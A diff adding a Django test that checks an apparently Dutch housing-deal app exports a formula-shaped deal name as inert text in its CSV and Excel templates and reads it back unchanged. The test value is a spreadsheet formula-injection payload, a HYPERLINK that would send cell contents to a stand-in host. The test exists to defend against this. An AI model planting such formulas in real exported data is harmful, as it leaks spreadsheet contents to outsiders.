@@ -199,3 +199,23 @@ def test_english_pages_render(client, people):
         response = client.get(url)
         assert response.status_code == 200 and '<html lang="en"' in response.content.decode(), url
     client.post("/taal/setlang/", {"language": "nl", "next": "/"})
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_template_and_loads_back(client, people, tmp_path):
+    """The template is a spreadsheet download like any other (bouwregie.cells, issue #16): a woondeal named
+    like a formula is written as inert text in CSV and Excel and read back as the name itself."""
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    store.record("WD-07", {**DEAL, "name": name}, "a", "eerste")
+    csv_file = client.get("/woondeals/template.csv?gevuld=1").content.decode()
+    assert "WD-07;\"'=HYPERLINK(" in csv_file
+    path = tmp_path / "woondeals.xlsx"
+    path.write_bytes(client.get("/woondeals/template.xlsx?gevuld=1").content)
+    cell = load_workbook(path)["woondeals"]["B2"]
+    assert cell.data_type == "s" and cell.value == "'" + name
+    client.force_login(people["nh"])
+    for content, file_name in ((csv_file.encode(), "woondeals.csv"), (path.read_bytes(), "woondeals.xlsx")):
+        loaded = client.post("/woondeals/laden", {"bestand": SimpleUploadedFile(file_name, content), "reden": "x"})
+        assert loaded.status_code == 200 and "Geladen: 0 nieuwe versies." in _text(loaded)
+    assert store.as_agreed_on("WD-07").name == name and WoondealVersion.objects.count() == 1
